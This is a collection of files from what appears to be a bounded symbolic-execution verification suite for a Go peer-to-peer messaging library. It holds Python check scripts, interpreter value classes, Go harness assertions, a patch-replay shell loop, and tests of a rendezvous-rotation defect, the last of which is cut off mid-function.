    'demonstration': {'files': demos, 'test': m.get('demo_test'), 'cmd': m.get('demo_cmd')},
    'author_ran': m.get('ran'),
    'confirmed_by_me': ran,
    'check_detects': detected,
    'check_result': result,
    'how_to_rerun': 'git -C /repo apply /verif/seeded/%s/patch.diff && python3-vt checks/%s.py quick; git -C /repo checkout -- .' % (os.path.basename(dst), pid.lower()),
}
json.dump(meta, open(dst + '/meta.json', 'w'), indent=1)
print('stored', dst)
