"""Run-time values of the symbolic interpreter."""
import z3
from . import terms as T


class GoPanic(Exception):
    """a Go run-time panic (explicit or run-time error) on the current path"""

    def __init__(self, kind, value=None, pos=''):
        Exception.__init__(self, '%s: %s @%s' % (kind, value, pos))
        self.kind = kind
        self.value = value
        self.pos = pos
        self.gotrace = []


class PathEnd(Exception):
    """path is abandoned (infeasible / assumption false / harness asked to stop)"""


class Inconclusive(Exception):
    """the encoder cannot go on (unsupported construct, missing contract, solver unknown)"""


class Ptr:
    __slots__ = ('c', 'i')

    def __init__(self, c, i):
        self.c = c
        self.i = i

    def load(self):
        return self.c[self.i]

    def __eq__(self, o):
        return isinstance(o, Ptr) and self.c is o.c and self.i == o.i

    def __ne__(self, o):
        return not self.__eq__(o)

    def __hash__(self):
        return hash((id(self.c), self.i))

    def __repr__(self):
        return 'Ptr(%x,%s)' % (id(self.c) & 0xffff, self.i)


class SV(list):
    """struct value (by value semantics; copied on load/store)"""
    __slots__ = ('tid',)

    def __init__(self, it=(), tid=0):
        list.__init__(self, it)
        self.tid = tid


class AV(list):
    """array value / backing store of a slice"""
    __slots__ = ()


class SliceVal:
    __slots__ = ('arr', 'off', 'len', 'cap')

    def __init__(self, arr, off, ln, cap):
        self.arr = arr
        self.off = off
        self.len = ln
        self.cap = cap

    def elems(self):
        return self.arr[self.off:self.off + self.len]

    def __repr__(self):
        return 'Slice(len=%d,cap=%d,%r)' % (self.len, self.cap, self.elems()[:8])


class TermBytes:
    """non-nil opaque []byte: contents are the Term `t` (length blen(t))"""
    __slots__ = ('t',)

    def __init__(self, t):
        self.t = t

    def __repr__(self):
        return 'TermBytes(%s)' % T.term_str(self.t)


class SymStr:
    """string whose contents are the Term t"""
    __slots__ = ('t',)

    def __init__(self, t):
        self.t = t

    def __repr__(self):
        return 'SymStr(%s)' % T.term_str(self.t)


class Iface:
    __slots__ = ('tid', 'v')

    def __init__(self, tid, v):
        self.tid = tid
        self.v = v

    def __repr__(self):
        return 'Iface(%s,%r)' % (self.tid, self.v)


class Closure:
    __slots__ = ('fn', 'bindings')

    def __init__(self, fn, bindings=()):
        self.fn = fn
        self.bindings = list(bindings)

    def __repr__(self):
        return 'Closure(%s)' % self.fn


class Builtin:
    __slots__ = ('name',)

    def __init__(self, name):
        self.name = name


class PyFunc:
    """a Go func value implemented by the environment (python callable(interp, args))"""
    __slots__ = ('f', 'name')

    def __init__(self, f, name='pyfunc'):
        self.f = f
        self.name = name


class MapVal:
    __slots__ = ('items', 'tid')

    def __init__(self, tid=0):
        self.items = []  # list of [key, value]
        self.tid = tid

    def __repr__(self):
        return 'Map(%r)' % (self.items,)


class Native:
    """object of an environment (contract) type"""

    def __init__(self, kind, **kw):
        self.kind = kind
        self.__dict__.update(kw)

    def __repr__(self):
        return 'Native(%s,%s)' % (self.kind, {k: v for k, v in self.__dict__.items() if k != 'kind'})


class Chan:
    def __init__(self, cap=0, name=''):
        self.cap = cap
        self.buf = []
        self.closed = False
        self.name = name


class MapIter:
    def __init__(self, items):
        self.items = items
        self.pos = 0


class StrIter:
    def __init__(self, s):
        self.s = s
        self.pos = 0


def is_sym(v):
    return isinstance(v, z3.ExprRef)


def copyval(v):
    """value-semantics copy of aggregates"""
    if type(v) is SV:
        n = SV((copyval(x) for x in v), v.tid)
        return n
    if type(v) is AV:
        return AV(copyval(x) for x in v)
    return v


def store_into(c, i, v):
    """store v into c[i] keeping interior pointers of aggregates valid"""
    old = c[i]
    if (type(old) is SV and type(v) is SV) or (type(old) is AV and type(v) is AV):
        if len(old) == len(v):
            for k in range(len(v)):
                store_into(old, k, v[k])
            return
    c[i] = copyval(v)
