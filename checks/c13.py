#!/usr/bin/env python3
"""C13: event listings honour since/until/reverse exactly (range logic + parameter rules)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import ipfslog


def main():
    t = tier()
    N = 4 if t == 'quick' else 7
    chk = Check('C13', [MOD, MOD + '/pkg/errcode'], '', ['C13/zz_verif_c13.go'], installers=[ipfslog.install],
                init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='weshnet')
    P = MOD + '.'
    chk.load([P + 'VerifC13Range', P + 'VerifC13Iterate', P + 'VerifC13Witness', P + 'VerifC13Params'])
    jobs = []
    for n in range(0, N + 1):
        jobs.append(Job(P + 'VerifC13Range', (n,)))
        jobs.append(Job(P + 'VerifC13Iterate', (n,)))
    jobs.append(Job(P + 'VerifC13Params', ()))
    jobs.append(Job(P + 'VerifC13Witness', (2,), witness=True))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Bounded symbolic execution (go/ssa of the current tree -> path-forking interpreter -> z3) of '
                       'getEntriesInRange, iterateOverEntries and checkParametersConsistency against reference functions. '
                       'Entry identifiers and the since/until identifiers are free opaque byte strings (pairwise distinct '
                       'entries); since/until range over nil, every entry id and an unknown id; reverse and the five '
                       'parameter flags are free. Every assertion is decided by the solver for all values on its path.',
           bounds={'entries_n': '0..%d' % N, 'ids': 'opaque byte strings of any length >= 1', 'outside': 'lists longer than the bound; the order source (OpLog().GetEntries().Reverse()) and the goroutine/channel relay of ListEvents are not part of this check'},
           assumptions=['log entries have pairwise distinct non-empty CIDs (content addressing)',
                        'cid.Cid.Bytes() is injective in the CID (contract)'],
           trusted=['go/ssa lowering (x/tools v0.50.0)', 'wesym interpreter', 'z3 5.1.0; final queries re-decided by cvc5 1.0 and z3 4.8.12'])


if __name__ == '__main__':
    main()
