#!/bin/sh
# usage: tools/seedqueue.sh "C01:c01.py C02:c02.py ..."  -- runs seeded changes one after the other against their check (quick), logs to /tmp/w/seedq.log
for item in $1; do
  id=${item%%:*}; chk=${item##*:}
  d=/tmp/seedout_${id}_1
  echo "===== $id ($chk) $(date +%H:%M:%S)" >> /tmp/w/seedq.log
  if git -C /repo apply $d/patch.diff 2>>/tmp/w/seedq.log; then
    (cd /verif && timeout 2400 python3-vt checks/$chk quick 2>&1 | grep -E "^(VIOLATION|INCONCLUSIVE|KNOWN|C[0-9]+ )|assertion" | cut -c1-300 | head -12) >> /tmp/w/seedq.log
    git -C /repo checkout -- .
  else
    echo "PATCH FAILED TO APPLY" >> /tmp/w/seedq.log
  fi
  echo "===== end $id $(date +%H:%M:%S)" >> /tmp/w/seedq.log
done
