package queue

import (
	"context"
)

type verifItem struct {
	c  uint64
	id int
}

func (v *verifItem) Counter() uint64 { return v.c }

func verif_ctx(cancelled bool) context.Context { panic("intrinsic") }

// VerifC15Priority: n items with free counters; `pre` of them are added before a first Next, the rest after;
// then everything is drained. Every Next must return a pending item with the minimum counter, every item
// comes out exactly once, Size is consistent.
func VerifC15Priority(n, pre int) {
	pq := NewPriorityQueue[*verifItem]("t", &noopTracer[*verifItem]{})
	items := make([]*verifItem, n)
	out := make([]bool, n)
	for i := 0; i < n; i++ {
		items[i] = &verifItem{c: verif_anyUint64("counter"), id: i}
	}
	pending := 0
	check := func(got *verifItem) {
		if pending == 0 {
			verif_assert(got == nil, "C15.prio: Next on an empty queue yields nothing")
			return
		}
		verif_assert(got != nil, "C15.prio: Next on a non-empty queue yields an item")
		if got == nil {
			return
		}
		verif_assert(!out[got.id], "C15.prio: no item is handed out twice")
		out[got.id] = true
		pending--
		for _, rest := range pq.items {
			verif_assert(got.c <= rest.c, "C15.prio: Next yields the smallest pending counter")
		}
		verif_assert(pq.Size() == pending, "C15.prio: Size equals the number of pending items")
	}
	for i := 0; i < pre; i++ {
		pq.Add(items[i])
		pending++
	}
	verif_assert(pq.Size() == pending, "C15.prio: Size after adds")
	check(pq.Next())
	for i := pre; i < n; i++ {
		pq.Add(items[i])
		pending++
	}
	for k := 0; k <= n; k++ {
		check(pq.Next())
	}
	for i := 0; i < n; i++ {
		verif_assert(out[i], "C15.prio: nothing is lost")
	}
	verif_reach("C15.prio.ok")
}

// VerifC15NextAll: NextAll hands every item to the callback in non-decreasing counter order, each once.
func VerifC15NextAll(n int) {
	pq := NewPriorityQueue[*verifItem]("t", &noopTracer[*verifItem]{})
	for i := 0; i < n; i++ {
		pq.Add(&verifItem{c: verif_anyUint64("counter"), id: i})
	}
	seen := make([]bool, n)
	cnt := 0
	var last uint64
	err := pq.NextAll(func(it *verifItem) error {
		verif_assert(!seen[it.id], "C15.nextall: no duplicate")
		seen[it.id] = true
		if cnt > 0 {
			verif_assert(last <= it.c, "C15.nextall: non-decreasing counters")
		}
		last = it.c
		cnt++
		return nil
	})
	verif_assert(err == nil, "C15.nextall: no error")
	verif_assert(cnt == n && pq.Size() == 0, "C15.nextall: every item delivered, queue empty")
	verif_reach("C15.nextall.ok")
}

// VerifC15SimpleSeq: FIFO / exactly-once of the simple queue on the non-blocking paths, cancelled wait = no item.
func VerifC15SimpleSeq(n int) {
	q := NewSimpleQueue[*verifItem]("t", &noopTracer[*verifItem]{})
	items := make([]*verifItem, n)
	for i := 0; i < n; i++ {
		items[i] = &verifItem{id: i}
		q.Add(items[i])
	}
	usePop := verif_anyBool("usePop")
	for i := 0; i < n; i++ {
		var got *verifItem
		var ok bool
		if usePop {
			got, ok = q.Pop()
		} else {
			got, ok = q.WaitForItem(verif_ctx(false))
		}
		verif_assert(ok && got == items[i], "C15.simple: items come out in insertion order, each once")
	}
	got, ok := q.Pop()
	verif_assert(!ok && got == nil, "C15.simple: Pop on empty queue reports no item")
	got, ok = q.WaitForItem(verif_ctx(true))
	verif_assert(!ok && got == nil, "C15.simple: cancelled wait returns no item")
	if n > 0 {
		q.Add(items[0])
		got, ok = q.WaitForItem(verif_ctx(true))
		verif_assert(!ok && got == nil, "C15.simple: cancelled wait returns no item even when one is queued")
		got, ok = q.Pop()
		verif_assert(ok && got == items[0], "C15.simple: the item is still there afterwards")
	}
	verif_reach("C15.simple.ok")
}

func VerifC15Witness() {
	pq := NewPriorityQueue[*verifItem]("t", &noopTracer[*verifItem]{})
	a := &verifItem{c: verif_anyUint64("a"), id: 0}
	b := &verifItem{c: verif_anyUint64("b"), id: 1}
	pq.Add(a)
	pq.Add(b)
	if pq.Next() == b {
		verif_assert(false, "C15.witness: reachable")
	}
}
