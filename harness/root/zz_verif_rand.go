package weshnet

import crand "crypto/rand"

func verifRandRoot(b []byte) (int, error) { return crand.Read(b) }
