#!/usr/bin/env python3
"""C02: receiver ratchet tolerates any arrival order and duplication of messages."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto, ipfslog
from wesym import terms as T
import c01


def install(I):
    def cid_n(I, args, ins):
        i = I.concretize(args[0], 'cidN')
        return ipfslog.cid_value(I, T.lit_bytes(b'cid-%d' % i))
    I.intrinsics['verif_cidN'] = cid_n


def main():
    t = tier()
    chk = Check('C02', c01.PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C02/zz_verif_c02.go'],
                installers=[crypto.install, crypto.install_proto, install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    chk.load([P + 'VerifC02Bounded', P + 'VerifC02TwoSenders', P + 'VerifC02Witness'])
    cfg = {'timeout_ms': 60000, 'unwind': 16, 'dec_as_term': True}
    jobs = []
    if t == 'quick':
        grid = [(1, 0, 3, 3), (2, 1, 3, 3), (2, 0, 4, 3)]
    else:
        grid = [(w, pre, n, L) for w in (1, 2, 3) for pre in (0, 1) for (n, L) in ((3, 3), (4, 4))]
    for (w, pre, n, L) in grid:
        for rereg in (99, 1):
            jobs.append(Job(P + 'VerifC02Bounded', (w, pre, n, L, rereg), cfg=cfg, max_paths=100000))
    for (w, n, L) in ([(1, 2, 3)] if t == 'quick' else [(1, 2, 3), (2, 2, 4), (1, 3, 4)]):
        jobs.append(Job(P + 'VerifC02TwoSenders', (w, n, L), cfg=cfg, max_paths=100000))
    jobs.append(Job(P + 'VerifC02Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Bounded symbolic execution of the receiver ratchet (RegisterChainKey/registerChainKey/preComputeKeys, '
                       'OpenEnvelopeHeaders, OpenEnvelopePayload, openPayload, getKeyForCID, getPrecomputedMessageKey, postDecryptActions, '
                       'putKeyForCID, delPrecomputedKey, preComputeNextKey, updateCurrentKey) against the window formula of the property. '
                       'Every arrival is a free index into the sealed messages, so all permutations with repetitions of length L are '
                       'covered by solver-decided forks; re-delivery of the same and of an older announcement at a chosen position.',
           bounds={'grid(window,pre,n,L)': grid, 'reregistration_position': 'never / after the first arrival',
                   'outside': 'default window 100 (loop length only), several senders, undefined CIDs on re-read'},
           assumptions=['CIDs of distinct log entries are distinct', 'batch commit atomic', 'term algebra for the KDF chain (free, injective)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
