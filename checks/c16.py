#!/usr/bin/env python3
"""C16: notify primitive and its users -- no deadlock, no missed update (schedule-symbolic BMC)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import seqchan
from wesym import bmc


import functools
from wesym import coop


def _coop_inst(preemptions, I):
    coop.install(I, preemptions=preemptions)


def main():
    t = tier()
    cfg = {'unwind': 2, 'unwind_all': 3, 'timeout_ms': 120000, 'chan_pool': 0, 'chan_pool_by_name': {'waiter': 2}}
    res = []
    # notify primitive
    # one front-end run per package: the BMC and the coop harness files are loaded together, the engine is chosen per job
    c1 = Check('C16', [MOD + '/internal/notify'], 'internal/notify', ['C16/zz_verif_c16_notify.go', 'C16/zz_verif_c16_notify_coop.go'],
               installers=[seqchan.install], prelude_pkgname='notify')
    P1 = MOD + '/internal/notify.'
    c1.load([P1 + 'VerifC16Notify', P1 + 'VerifC16NotifyCoop'])
    j1 = [Job(P1 + 'VerifC16Notify', a, cfg=cfg, max_paths=100000, installers=[bmc.install]) for a in
          ([(1, 0, 0), (1, 1, 0)] if t == 'quick' else [(1, 0, 0), (1, 1, 0), (1, 0, 1)])]
    pre = 2  # a preemption bound of 3 with two waiters did not finish in 45 minutes
    c1b = c1
    grid1 = [(1, 0, 0), (1, 1, 0), (2, 0, 0), (2, 1, 0), (1, 0, 1), (1, 1, 1)] if t == 'quick' else [(1, 0, 0), (1, 1, 0), (2, 0, 0), (2, 1, 0), (1, 0, 1), (1, 1, 1), (2, 0, 1), (2, 1, 1)]
    res += c1b.run_jobs(j1 + [Job(P1 + 'VerifC16NotifyCoop', a, cfg={'unwind': 8, 'timeout_ms': 60000}, installers=[functools.partial(_coop_inst, pre)], max_paths=300000,
                             label='VerifC16NotifyCoop(%d,%d,%d)[pre<=%d]' % (a + (pre,))) for a in grid1])
    c1b.cleanup()
    # lifecycle manager
    c2 = Check('C16', [MOD + '/pkg/lifecycle', MOD + '/internal/notify'], 'pkg/lifecycle', ['C16/zz_verif_c16_lifecycle.go', 'C16/zz_verif_c16_lifecycle_coop.go'],
               installers=[seqchan.install], prelude_pkgname='lifecycle')
    P2 = MOD + '/pkg/lifecycle.'
    c2.load([P2 + 'VerifC16Lifecycle', P2 + 'VerifC16LifecycleCoop'])
    j2 = [Job(P2 + 'VerifC16Lifecycle', a, cfg=cfg, max_paths=100000, installers=[bmc.install]) for a in
          ([(1, 0, 0)] if t == 'quick' else [(1, 0, 0), (1, 1, 0)])]
    c2b = c2
    grid2 = [(1, 0, 0), (1, 1, 0), (2, 0, 0), (1, 0, 1)] if t == 'quick' else [(1, 0, 0), (1, 1, 0), (1, 2, 0), (2, 0, 0), (2, 1, 0), (1, 0, 1), (2, 0, 1)]
    res += c2b.run_jobs(j2 + [Job(P2 + 'VerifC16LifecycleCoop', a, cfg={'unwind': 8, 'timeout_ms': 60000}, installers=[functools.partial(_coop_inst, pre)], max_paths=300000,
                             label='VerifC16LifecycleCoop(%d,%d,%d)[pre<=%d]' % (a + (pre,))) for a in grid2])
    c2b.cleanup()
    # connectedness manager (root package): status word and notify internals are visible cells, maps pre-populated
    c3 = Check('C16', [MOD, MOD + '/internal/notify'], '', ['C16/zz_verif_c16_conn.go', 'C16/zz_verif_c16_conn_coop.go'],
               installers=[seqchan.install], prelude_pkgname='weshnet')
    P3 = MOD + '.'
    c3.load([P3 + 'VerifC16Connectedness', P3 + 'VerifC16ConnCoop'])
    cfg3 = {'unwind': 2, 'unwind_all': 2, 'timeout_ms': 120000, 'chan_pool': 0, 'chan_pool_by_name': {'waiter': 1}}
    if False:
        # the one-formula BMC jobs of the connectedness manager are not registered any more: the coop jobs below decide it
        # (seconds, full memory model); the BMC harness is kept in harness/C16/zz_verif_c16_conn.go
        res += c3.run_jobs([Job(P3 + 'VerifC16Connectedness', (sc,), cfg=cfg3, max_paths=100000, installers=[bmc.install]) for sc in (0, 1)])
    # the same manager with its real maps under the symbolic scheduler inside the interpreter (coop.py)
    c4 = c3
    res += c4.run_jobs([Job(P3 + 'VerifC16ConnCoop', (sc,), cfg={'unwind': 6, 'timeout_ms': 60000}, installers=[functools.partial(_coop_inst, pre)],
                            max_paths=200000, label='VerifC16ConnCoop(%d)[pre<=%d]' % (sc, pre)) for sc in (0, 1, 2, 3)])
    c2 = c4
    finish(c2, res, t,
           explanation='Schedule-symbolic bounded model checking (DESIGN section 4) of the real internal/notify (getChan, Wait, Broadcast), '
                       'pkg/lifecycle Manager (UpdateState, WaitForStateChange) and ConnectednessManager (AssociatePeer, UpdateState, WaitForConnectednessChange, updateStatus): every goroutine body is executed in open mode by the '
                       'interpreter (each mutex/channel/select/context operation and every load/store of a shared scalar or channel-pointer '
                       'cell is a recorded visible operation with a symbolic result); for each tuple of operation sequences ONE formula with '
                       'free who_k / stop variables decides whether a stuck state (a goroutine unfinished, none able to move) or a failed '
                       'assertion is reachable, and that no sequence cut by the unwinding bound can be run to its end.',
           bounds={'goroutines': '1-2 waiters + 1 updater (+ canceller)', 'coop_notify(waiters, mode, cancel)': grid1, 'coop_lifecycle(waiters, no-op updates, cancel)': grid2, 'coop_preemption_bound': pre, 'unwind': 2, 'channels_made_per_goroutine': 2,
                   'connectedness': 'one waiter (current = {p1: Disconnected}) against AssociatePeer(g, p2) resp. UpdateState(p1, Connected); group and first peer set up sequentially; waiter loop cut after 2 iterations (unwinding assertion checked)',
                   'connectedness_coop': 'scenarios 0..3 (associate / update / associate+update / cancel) with the real maps under the symbolic scheduler of DESIGN 4b, preemption bound 2; the BMC jobs of the connectedness manager run in the thorough tier only',
                   'outside': 'tinder peersCache; for the BMC jobs: maps mutated concurrently (the BMC memory model makes scalar and channel-pointer cells visible; map contents are only read on the checked paths apart from the association itself); more goroutines; memory models weaker than sequential consistency'},
           assumptions=['sequential consistency', 'a select whose channel is closed or has a value can always complete'],
           trusted=['go/ssa lowering', 'wesym interpreter (open mode) + BMC composer', 'z3 5.1.0'])


if __name__ == '__main__':
    main()
