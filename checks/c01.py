#!/usr/bin/env python3
"""C01: sealed group messages open to the original payload or are rejected."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto, seqchan

PKGS = [MOD + '/pkg/secretstore', MOD + '/pkg/cryptoutil', MOD + '/pkg/protocoltypes', MOD + '/pkg/errcode', MOD + '/pkg/ipfsutil', 'encoding/binary']


import functools
from wesym import coop


def _coop_inst(preemptions, I):
    coop.install(I, preemptions=preemptions)


def main():
    t = tier()
    chk = Check('C01', PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C01/zz_verif_c01.go'],
                installers=[crypto.install, crypto.install_proto], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    names = ('VerifC01RoundTrip', 'VerifC01Insider', 'VerifC01InsiderRetry', 'VerifC01InsiderPush', 'VerifC01Outsider', 'VerifC01OtherGroup', 'VerifC01Witness')
    chk.load([P + n for n in names])
    cfg = {'timeout_ms': 60000, 'unwind': 12, 'dec_as_term': True}
    jobs = []
    for gt in (1, 2, 3):
        jobs.append(Job(P + 'VerifC01RoundTrip', (gt,), cfg=cfg))
        jobs.append(Job(P + 'VerifC01Insider', (gt,), cfg=cfg))
        jobs.append(Job(P + 'VerifC01Outsider', (gt,), cfg=cfg))
        if t == 'thorough' or gt == 3:
            jobs.append(Job(P + 'VerifC01InsiderPush', (gt,), cfg=cfg, max_paths=200000))
        for mid in ((0, 1) if (t == 'thorough' or gt == 3) else (0,)):
            jobs.append(Job(P + 'VerifC01InsiderRetry', (gt, mid), cfg=cfg))
    jobs.append(Job(P + 'VerifC01OtherGroup', (), cfg=cfg))
    jobs.append(Job(P + 'VerifC01Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    chk.cleanup()
    # the positive clause under concurrent sends of one device (symbolic scheduler, DESIGN 4b): every envelope sealed
    # while another SealEnvelope is in flight still opens at the receiver to its own payload and counter
    import c02
    chk2 = Check('C01', PKGS, 'pkg/secretstore',
                 ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C09/zz_verif_c09_coop.go'],
                 installers=[crypto.install, crypto.install_proto, c02.install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    chk2.load([P + 'VerifC09Coop'])
    K = 6
    pre = 1 if t == 'quick' else 2
    res += chk2.run_jobs([Job(P + 'VerifC09Coop', (2, 1, 1), cfg=cfg, installers=[functools.partial(_coop_inst, pre)], shard=(i, K), max_paths=400000,
                              label='VerifC09Coop(2,1,1)[pre<=%d]#%d/%d' % (pre, i, K)) for i in range(K)])
    chk = chk2
    finish(chk, res, t,
           explanation='Symbolic execution of the real seal/open code of pkg/secretstore (SealEnvelope, sealEnvelope, sealPayload, '
                       'deriveNextKeys, uint64AsNonce, OpenEnvelopeHeaders, OpenEnvelopePayload, openPayload*, postDecryptActions, '
                       'registerChainKey, chain-key announcement) over a free term algebra for bytes and cryptography: payloads and the '
                       'adversarial envelope are free terms of any length, the sender counter is a free 64-bit value; EUF-CMA is assumed '
                       'only for the keys a harness declares honest and INT-CTXT only for keys it declares secret, so an insider is '
                       'literally "knows everything but the device signing key".',
           bounds={'concurrent_sends': '2 goroutines x 1 SealEnvelope on one store and group under the symbolic scheduler (preemption bound %d), all envelopes then opened at the receiver' % pre, 'window_N': 2, 'honest_messages': '<= 2', 'group_types': 'account, contact, multi-member', 'payload': 'opaque, any length',
                   'outside': 'primitives themselves; protobuf wire malleability (typed parse); counter wrap at 2^64; statistical properties'},
           assumptions=['Dolev-Yao term algebra: constructors injective and disjoint', 'EUF-CMA for keys declared honest', 'INT-CTXT for keys declared secret',
                        'datastore = array Term->Option Term; batch commit atomic'],
           trusted=['go/ssa lowering', 'wesym interpreter + crypto/proto/datastore contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
