package rendezvous

import (
	"bytes"
	"testing"
	"time"
)

// waitForFreshPeriod sleeps until we are in the first ~200ms of a period of the given interval.
func waitForFreshPeriod(interval time.Duration) {
	for {
		now := time.Now()
		start := RoundTimePeriod(now, interval)
		if now.Sub(start) < 200*time.Millisecond {
			return
		}
		time.Sleep(NextTimePeriod(now, interval).Sub(now) + 10*time.Millisecond)
	}
}

func TestD1_IsExpiredSemantics(t *testing.T) {
	r := NewRotationInterval(time.Hour)
	p := r.NewRendezvousPointForPeriod(time.Now(), "topic", []byte("seed"))
	t.Logf("fresh point: deadline in future=%v TTL=%v IsExpired()=%v", p.Deadline().After(time.Now()), p.TTL(), p.IsExpired())
	if p.IsExpired() {
		t.Errorf("DEFECT: a point whose deadline is %v in the future reports IsExpired()=true", p.TTL())
	}

	old := r.NewRendezvousPointForPeriod(time.Now().Add(-3*time.Hour), "topic", []byte("seed"))
	t.Logf("old point: deadline in future=%v TTL=%v IsExpired()=%v", old.Deadline().After(time.Now()), old.TTL(), old.IsExpired())
	if !old.IsExpired() {
		t.Errorf("DEFECT: a point whose deadline passed %v ago reports IsExpired()=false", -old.TTL())
	}
}

func TestD1_PointForTopicAfterBoundary(t *testing.T) {
	const interval = 2 * time.Second
	topic, seed := "topic-d1", []byte("seed-d1")

	waitForFreshPeriod(interval)

	r := NewRotationInterval(interval)
	regAt := time.Now()
	r.RegisterRotation(regAt, topic, seed)

	p0, err := r.PointForTopic(topic)
	if err != nil {
		t.Fatal(err)
	}
	exp0 := GenerateRendezvousPointForPeriod([]byte(topic), seed, RoundTimePeriod(regAt, interval))
	t.Logf("period0: point==expected(period0)=%v deadline=%v (in %v)", bytes.Equal(p0.RawRotationTopic(), exp0), p0.Deadline().Format(time.StampMilli), p0.TTL())

	// cross at least one boundary
	time.Sleep(time.Until(p0.Deadline()) + 300*time.Millisecond)

	now := time.Now()
	p1, err := r.PointForTopic(topic)
	if err != nil {
		t.Fatal(err)
	}
	expNow := GenerateRendezvousPointForPeriod([]byte(topic), seed, RoundTimePeriod(now, interval))
	isOld := bytes.Equal(p1.RawRotationTopic(), exp0)
	isNew := bytes.Equal(p1.RawRotationTopic(), expNow)
	t.Logf("after boundary: now=%v point==old=%v point==current=%v deadline=%v TTL=%v IsExpired()=%v",
		now.Format(time.StampMilli), isOld, isNew, p1.Deadline().Format(time.StampMilli), p1.TTL(), p1.IsExpired())

	if !isNew {
		t.Errorf("DEFECT: PointForTopic after the period boundary does not return the current period's point (returns old=%v)", isOld)
	}
	if !p1.Deadline().After(now) {
		t.Errorf("DEFECT: PointForTopic returned a point whose deadline is %v in the past", now.Sub(p1.Deadline()))
	}

	// many more periods: still stuck?
	time.Sleep(2*interval + 100*time.Millisecond)
	now = time.Now()
	p2, _ := r.PointForTopic(topic)
	expNow = GenerateRendezvousPointForPeriod([]byte(topic), seed, RoundTimePeriod(now, interval))
	t.Logf("2 more periods later: point==period0=%v point==current=%v TTL=%v", bytes.Equal(p2.RawRotationTopic(), exp0), bytes.Equal(p2.RawRotationTopic(), expNow), p2.TTL())
	if !bytes.Equal(p2.RawRotationTopic(), expNow) {
		t.Errorf("DEFECT: still stale after 3 periods")
	}
}

// Two peers that registered the same topic in different periods must agree:
// the sender uses PointForTopic(...).RawRotationTopic() (OrbitDBMessageMarshaler.Marshal),
// the receiver uses PointForRawRotation(raw) (OrbitDBMessageMarshaler.Unmarshal).
func TestD1_TwoInstancesDifferentPeriods(t *testing.T) {
	const interval = 2 * time.Second
	topic, seed := "topic-d1", []byte("seed-d1")

	waitForFreshPeriod(interval)

	ra := NewRotationInterval(interval)
	ra.RegisterRotation(time.Now(), topic, seed)
	pa0, _ := ra.PointForTopic(topic)

	// go to next period, then the second peer registers
	time.Sleep(time.Until(pa0.Deadline()) + 300*time.Millisecond)

	rb := NewRotationInterval(interval)
	rb.RegisterRotation(time.Now(), topic, seed)

	pa, err := ra.PointForTopic(topic)
	if err != nil {
		t.Fatal(err)
	}
	pb, err := rb.PointForTopic(topic)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("A (registered previous period): rotation=%x.. deadline TTL=%v", pa.RawRotationTopic()[:6], pa.TTL())
	t.Logf("B (registered this period)    : rotation=%x.. deadline TTL=%v", pb.RawRotationTopic()[:6], pb.TTL())

	if !bytes.Equal(pa.RawRotationTopic(), pb.RawRotationTopic()) {
		t.Errorf("DEFECT: peers disagree on the current rotation topic")
	}
	if _, err := rb.PointForRawRotation(pa.RawRotationTopic()); err != nil {
		t.Errorf("DEFECT: B cannot resolve A's rotation: %v", err)
	} else {
		t.Logf("B resolves A's rotation OK")
	}
	if _, err := ra.PointForRawRotation(pb.RawRotationTopic()); err != nil {
		t.Errorf("DEFECT: A cannot resolve B's rotation: %v", err)
	} else {
		t.Logf("A resolves B's rotation OK")
	}
}

// Secondary consequence: for a still-valid point every lookup "rotates" (re-creates the same
// period point and arms a time.AfterFunc that deletes the rotation key of the *old* point,
// which is the same key as the new one).
func TestD1_ValidPointChurn(t *testing.T) {
	r := NewRotationInterval(time.Hour)
	r.RegisterRotation(time.Now(), "t", []byte("s"))
	p1, _ := r.PointForTopic("t")
	p2, _ := r.PointForTopic("t")
	t.Logf("same *Point returned for two consecutive lookups in the same period: %v (same rotation bytes: %v)", p1 == p2, bytes.Equal(p1.RawRotationTopic(), p2.RawRotationTopic()))
	if p1 != p2 {
		t.Errorf("DEFECT(churn): valid point is re-created on every lookup (rotate() called while still valid)")
	}
}

// rotate() of a still-valid point produces a new point with the SAME rotation key, and the
// cleanup timer then deletes that key. PointForTopic hard-codes a 24h grace period, so here we
// call rotate() directly (exactly what PointForTopic does) with a 0 grace period.
func TestD1_CleanupDeletesLiveRotation(t *testing.T) {
	const interval = 2 * time.Second
	waitForFreshPeriod(interval)
	r := NewRotationInterval(interval)
	r.RegisterRotation(time.Now(), "t", []byte("s"))
	r.muCache.Lock()
	old := r.cacheTopics["t"]
	t.Logf("old.IsExpired()=%v (TTL %v) -> PointForTopic would call rotate()", old.IsExpired(), old.TTL())
	np := r.rotate(old, 0)
	r.muCache.Unlock()
	t.Logf("new point has same rotation key as old: %v", np.RotationTopic() == old.RotationTopic())
	time.Sleep(time.Until(np.Deadline()) + 200*time.Millisecond)
	r.muCache.Lock()
	_, stillThere := r.cacheRotations[np.RotationTopic()]
	_, topicThere := r.cacheTopics["t"]
	r.muCache.Unlock()
	t.Logf("after deadline+grace: cacheTopics has topic=%v, cacheRotations has the point's rotation=%v", topicThere, stillThere)
